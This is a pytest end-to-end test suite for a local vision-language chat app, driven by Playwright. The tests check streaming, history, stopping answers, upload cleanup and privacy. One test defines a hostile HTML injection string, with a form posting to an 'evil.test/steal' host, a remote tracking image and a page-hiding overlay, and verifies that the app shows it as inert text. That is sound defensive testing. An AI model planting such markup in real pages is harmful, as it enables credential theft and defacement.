"""End to end: `python app.py --model tiny-random` as a real process, driven by Debian's chromium via Playwright."""

from __future__ import annotations

import base64
import sqlite3
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from PIL import Image

from tests.servers import ROOT, Server, data_dir, metric

ARTIFACTS = ROOT / "test-artifacts"
# The page runs under its real Content-Security-Policy (no 'unsafe-eval'): Playwright gets functions, not
# expressions, to evaluate. The browser fixture is in conftest.py.


@pytest.fixture(scope="module")
def server(tmp_path_factory, model_dir):
    srv = Server(data_dir(tmp_path_factory, model_dir, "e2e-data"), env={"VLCHAT_MAX_MESSAGE_CHARS": "2000"}).start()
    yield srv
    srv.stop()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    pg = context.new_page()
    yield pg
    context.close()


@pytest.fixture(scope="module")
def photo(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("img") / "fractal.png"
    Image.effect_mandelbrot((320, 200), (-2, -1, 1, 1), 60).convert("RGB").save(path)
    return path


def assistant_texts(page) -> list[str]:
    return page.locator("#chat .bot-row").all_inner_texts()


def set_setting(page, elem_id: str, value: str) -> None:
    field = page.locator(f"#{elem_id} input[type=number]")
    field.fill(value)
    field.press("Enter")


def open_settings(page) -> None:
    if not page.locator("#max-new-tokens").is_visible():
        page.locator("#settings button, #settings .label-wrap").first.click()
    page.locator("#max-new-tokens").wait_for(state="visible")


def send(page, text: str, image: Path | None = None) -> None:
    if image is not None:
        page.set_input_files("#input input[type=file]", str(image))
        page.locator("#input .thumbnails img").first.wait_for(timeout=10_000)
    page.locator("#input textarea").fill(text)
    page.locator("#input textarea").press("Enter")


def paste_image(page, path: Path) -> None:
    """Paste an image file into the input as the clipboard would (a screenshot, say)."""
    page.evaluate(
        """([b64, name]) => {
          const bytes = Uint8Array.from(atob(b64), c => c.charCodeAt(0));
          const data = new DataTransfer();
          data.items.add(new File([bytes], name, {type: 'image/png'}));
          document.querySelector('#input textarea').dispatchEvent(
            new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true}));
        }""",
        [base64.b64encode(path.read_bytes()).decode(), path.name],
    )
    page.locator("#input .thumbnails img").first.wait_for(timeout=10_000)


def wait_idle(page, timeout: float = 60) -> None:
    """Until the answer has finished: the status line no longer says 'Answering' and the chat is stable."""
    deadline = time.monotonic() + timeout
    last, stable = None, 0
    while time.monotonic() < deadline:
        current = page.locator("#chat").inner_text()
        status = page.locator("#status").inner_text()
        busy = "Answering" in status or "正在回答" in status  # in English or on a Chinese page (chat/i18n_catalog.py)
        stable = stable + 1 if current == last and not busy else 0
        if stable >= 4:
            return
        last = current
        time.sleep(0.25)
    raise AssertionError("answer did not finish")


def test_chat_two_turns_reload_and_reopen(server, page, photo):
    encoded_before = metric(server.base, "vlchat_images_encoded_total")
    page.goto(server.base + "/")
    page.locator("#random-weights-banner").wait_for()
    open_settings(page)
    set_setting(page, "max-new-tokens", "2000")  # long enough to see it stream

    page.set_input_files("#input input[type=file]", str(photo))
    # Before sending, the page says what the model will see of the image and what it costs.
    page.locator("#attachments").get_by_text("model sees").wait_for(timeout=10_000)
    assert "320×200" in page.locator("#attachments").inner_text()
    send(page, "What is in this picture?")
    user_msgs = page.locator("#chat .user-row")
    user_msgs.first.wait_for(timeout=20_000)
    # The answer streams: its text is seen growing before it ends.
    lengths = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and len(set(lengths)) < 3:
        texts = assistant_texts(page)
        if texts:
            lengths.append(len(texts[-1]))
        time.sleep(0.05)
    assert len(set(lengths)) >= 3, f"no streaming seen: {lengths}"
    wait_idle(page)
    first_answer = assistant_texts(page)[-1]
    assert len(first_answer) > 20
    assert page.locator("#chat img").count() >= 1  # the image is shown inline
    ARTIFACTS.mkdir(exist_ok=True)  # a picture of the page for people to look at (and the README)
    page.evaluate("() => window.scrollTo(0, 0)")
    page.screenshot(path=str(ARTIFACTS / "chat.png"))

    send(page, "Tell me more about the colours.")
    page.wait_for_function("() => document.querySelectorAll('#chat .bot-row').length >= 2",
                           timeout=30_000)
    wait_idle(page)
    # The image crossed the wire once and was encoded once for both turns.
    assert metric(server.base, "vlchat_images_encoded_total") - encoded_before == 1
    assert metric(server.base, "vlchat_cached_prompt_tokens_total") > 0

    page.locator("#new-chat").click()  # New chat empties the page
    page.locator("#chat").get_by_text("Tell me more about the colours.").wait_for(state="detached")

    page.reload()
    item = page.locator("#conversation-list label", has_text="What is in this picture?")
    item.first.wait_for(timeout=20_000)
    page.locator("#chat").get_by_text("Tell me more about the colours.").wait_for(state="detached")
    item.first.click()
    page.locator("#chat").get_by_text("Tell me more about the colours.").wait_for(timeout=20_000)
    chat_text = page.locator("#chat").inner_text()
    assert "What is in this picture?" in chat_text
    assert page.locator("#chat img").count() >= 1
    assert len(assistant_texts(page)) == 2
    assert first_answer[:30] in chat_text


def test_history_survives_restart_and_stays_private(server, page, photo, browser):
    page.goto(server.base + "/")
    page.locator("#input textarea").wait_for()
    paste_image(page, photo)  # a pasted screenshot travels like an upload
    send(page, "Remember this photo across a restart")
    page.locator("#conversation-list label", has_text="Remember this photo").first.wait_for(timeout=20_000)
    wait_idle(page)
    assert page.locator("#chat img").count() == 1

    server.stop()
    server.start()

    # Same browser (same local-storage identity): the conversation is listed again, image and all.
    page.goto(server.base + "/")
    item = page.locator("#conversation-list label", has_text="Remember this photo").first
    item.wait_for(timeout=20_000)
    item.click()
    page.locator("#chat").get_by_text("Remember this photo across a restart").wait_for(timeout=20_000)
    page.locator("#chat img").first.wait_for(timeout=10_000)
    assert len(assistant_texts(page)) == 1

    # Another browser sees none of it.
    other = browser.new_context()
    stranger = other.new_page()
    stranger.goto(server.base + "/")
    stranger.locator("#input textarea").wait_for()
    time.sleep(1.0)
    assert stranger.locator("#conversation-list label", has_text="Remember this photo").count() == 0
    other.close()


def test_stop_ends_a_long_answer(server, page):
    page.goto(server.base + "/")
    open_settings(page)
    set_setting(page, "max-new-tokens", "4096")
    before = metric(server.base, "vlchat_generated_tokens_total")
    send(page, "Write forever.")
    page.wait_for_function(
        "() => { const b = document.querySelectorAll('#chat .bot-row');"
        " return b.length && b[b.length-1].innerText.length > 40; }", timeout=30_000)
    page.locator("#stop").click()
    page.locator("#chat").get_by_text("Stopped.").first.wait_for(timeout=15_000)
    after_stop = page.locator("#chat").inner_text()
    time.sleep(1.5)
    assert page.locator("#chat").inner_text() == after_stop  # nothing more arrives
    generated = metric(server.base, "vlchat_generated_tokens_total") - before
    assert 0 < generated < 4096
    assert metric(server.base, "vlchat_requests_total{outcome=\"cancelled\"}") >= 1
    # The worker is free at once: a new question is answered.
    send(page, "Short one?")
    page.locator("#chat").get_by_text("Short one?").wait_for(timeout=10_000)


def test_closing_the_tab_stops_the_answer_and_keeps_it(server, browser):
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.base + "/")
    open_settings(page)
    set_setting(page, "max-new-tokens", "4096")
    send(page, "A long answer, then I leave")
    page.wait_for_function(
        "() => { const b = document.querySelectorAll('#chat .bot-row');"
        " return b.length && b[b.length-1].innerText.length > 40; }", timeout=30_000)
    context.close()
    db = sqlite3.connect(f"file:{server.data_dir / 'vlchat.db'}?mode=ro", uri=True)
    deadline = time.monotonic() + 30
    row = None
    while time.monotonic() < deadline:
        row = db.execute("select m.status, length(m.text) from messages m join conversations c"
                         " on c.id = m.conversation_id where c.title like 'A long answer%'"
                         " and m.role = 'assistant'").fetchone()
        if row and row[0] != "pending":
            break
        time.sleep(0.3)
    db.close()
    assert row is not None and row[0] == "stopped" and row[1] > 40


HOSTILE = ('<form action="http://evil.test/steal"><input name="p"></form> <style>body{display:none}</style> '
           '<img src="http://evil.test/pixel.png"> <div style="position:fixed;inset:0;background:red">overlay</div> '
           '![chart](http://other.host/a.png) and `<b>code</b>`')


def wait_ready(page) -> None:
    """Until the input box is enabled (the model serves)."""
    page.locator("#input textarea:not([disabled])").wait_for(timeout=60_000)


def conversation_rows(server, title_prefix: str) -> list[tuple]:
    """(role, text, status) of one conversation's messages, read straight from the database."""
    db = sqlite3.connect(f"file:{server.data_dir / 'vlchat.db'}?mode=ro", uri=True)
    try:
        return db.execute("select m.role, m.text, m.status from messages m join conversations c on c.id ="
                          " m.conversation_id where c.title like ? order by m.seq", [title_prefix + "%"]).fetchall()
    finally:
        db.close()


def test_html_in_messages_is_text_and_nothing_is_fetched(server, page):
    """Issue 9 item 3: forms, styles, remote images and overlays in a question or an answer show as text."""
    foreign = []
    page.on("request", lambda r: foreign.append(r.url) if urlsplit(r.url).hostname != "127.0.0.1" else None)
    page.goto(server.base + "/")
    wait_ready(page)
    send(page, HOSTILE)
    page.locator("#chat .user-row").first.wait_for(timeout=20_000)
    wait_idle(page)
    # The answer as a model could write it: stored with the same markup, then shown from the history.
    db = sqlite3.connect(server.data_dir / "vlchat.db", timeout=10)
    db.execute("update messages set text = ? where role = 'assistant' and conversation_id ="
               " (select conversation_id from messages where text = ?)", [HOSTILE, HOSTILE])
    db.commit()
    db.close()
    page.reload()
    wait_ready(page)
    page.locator("#conversation-list label", has_text="<form action").first.click()
    page.locator("#chat .bot-row", has_text="overlay").first.wait_for(timeout=20_000)
    shown = page.locator("#chat .message-content")
    assert shown.count() == 2
    for tag in ("form", "input", "img", "style", "script", "iframe", "[style]"):
        assert page.locator(f"#chat .message-content {tag}").count() == 0, tag
    text = page.locator("#chat .message-wrap").inner_text()
    assert text.count('<form action="http://evil.test/steal"><input name="p"></form>') == 2
    assert text.count("<style>body{display:none}</style>") == 2 and text.count("position:fixed") == 2
    assert page.locator('#chat .message-content a[href="http://other.host/a.png"]').count() == 2
    assert page.locator("#chat .message-content code", has_text="<b>code</b>").count() == 2
    assert page.locator("#input").is_visible()  # no overlay took the page
    time.sleep(1.0)
    assert foreign == []  # nothing was requested from any other host


def test_refusals_show_as_a_notice_in_the_chat_area(server, page):
    """Issue 9 items 2 and 13: a message over the text limit is refused with a notice (no overlay, no cut)."""
    page.goto(server.base + "/")
    wait_ready(page)
    long = "word " * 401
    page.locator("#input textarea").fill(long)
    page.locator("#input textarea").press("Enter")
    alert = page.locator("#notice [role=alert]")
    alert.wait_for(timeout=10_000)
    assert "2,004 characters; the limit is 2,000" in alert.inner_text()
    assert page.locator("#input textarea").input_value() == long  # nothing cut, nothing lost
    assert page.locator(".toast-body").count() == 0  # no red error overlay
    assert page.locator("#chat .user-row").count() == 0 and page.locator("#conversation-list label").count() == 0
    alert.focus()
    assert page.evaluate("() => document.activeElement.getAttribute('role')") == "alert"
    page.locator("#dismiss-notice").click()
    page.locator("#notice").wait_for(state="hidden", timeout=10_000)
    page.locator("#input textarea").fill("")
    page.locator("#regenerate").click()
    page.locator("#notice [role=alert]", has_text="Nothing to regenerate yet.").wait_for(timeout=10_000)
    assert page.locator(".toast-body").count() == 0


def test_uploaded_original_is_deleted_once_stored(server, page, photo):
    """Issue 9 item 8: Gradio's cached upload (EXIF and all) is gone as soon as the clean copy is stored."""
    def originals() -> list[Path]:
        return list((server.data_dir / "gradio").rglob(photo.name))

    page.goto(server.base + "/")
    wait_ready(page)
    page.set_input_files("#input input[type=file]", str(photo))
    page.locator("#input .thumbnails img").first.wait_for(timeout=10_000)
    deadline = time.monotonic() + 15  # the thumbnail can show before the upload has been written
    while not originals() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert originals()  # the upload waits in Gradio's cache until the message is sent
    send(page, "Where does the original go?")
    page.locator("#chat .user-row").first.wait_for(timeout=20_000)
    wait_idle(page)
    assert originals() == []
    assert page.locator("#chat img").count() == 1  # the stored clean copy is what the chat shows


def test_switching_conversation_while_answering(server, page):
    """Issue 9 item 10: the stream stops drawing, the answer is saved in its own chat, the next message works."""
    page.goto(server.base + "/")
    wait_ready(page)
    open_settings(page)
    set_setting(page, "max-new-tokens", "1500")
    send(page, "Conversation A")
    page.locator("#conversation-list label", has_text="Conversation A").first.wait_for(timeout=20_000)
    wait_idle(page)
    for leave in ("open A", "new chat"):
        page.locator("#new-chat").click()
        page.locator("#chat .bot-row").first.wait_for(state="detached")
        question = f"Long answer before {leave}"
        send(page, question)
        page.wait_for_function(
            "() => { const b = document.querySelectorAll('#chat .bot-row');"
            " return b.length && b[b.length-1].innerText.length > 40; }", timeout=30_000)
        if leave == "open A":
            page.locator("#conversation-list label", has_text="Conversation A").first.click()
        else:
            page.locator("#new-chat").click()
        try:
            page.locator("#chat").get_by_text(question).wait_for(state="detached", timeout=10_000)
        except Exception:
            ARTIFACTS.mkdir(exist_ok=True)
            page.screenshot(path=str(ARTIFACTS / "switch-failed.png"))
            raise
        shown = page.locator("#chat").inner_text()
        time.sleep(1.5)
        assert page.locator("#chat").inner_text() == shown  # nothing more is drawn into this view
        follow = f"Next message after {leave}"
        send(page, follow)  # not dropped: the old send event is over
        page.locator("#chat").get_by_text(follow).wait_for(timeout=10_000)
        assert question not in page.locator("#chat").inner_text()
        wait_idle(page)
        deadline = time.monotonic() + 60
        while conversation_rows(server, question)[-1][2] == "pending" and time.monotonic() < deadline:
            time.sleep(0.3)
        rows = conversation_rows(server, question)
        assert [(r[0], r[2]) for r in rows] == [("user", "complete"), ("assistant", "complete")]
    assert [r[1] for r in conversation_rows(server, "Conversation A") if r[0] == "user"] == [
        "Conversation A", "Next message after open A"]
    assert [r[1] for r in conversation_rows(server, "Next message after new chat") if r[0] == "user"] == [
        "Next message after new chat"]


def test_copy_message_copies_the_text_shown(server, browser):
    """Messages arrive as server-rendered HTML: Copy (assets/page.js) copies what is shown, not the markup."""
    context = browser.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    page.goto(server.base + "/")
    wait_ready(page)
    send(page, "Copy **this** & `<b>that</b>`")
    page.locator("#chat .bot-row").first.wait_for(timeout=20_000)
    wait_idle(page)
    page.locator("#chat button[aria-label='Copy message']").first.click()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied == "Copy this & <b>that</b>"
    label = page.locator("#chat [data-testid='user']").first.get_attribute("aria-label")
    assert label.endswith("Copy this & <b>that</b>") and "<p>" not in label
    context.close()
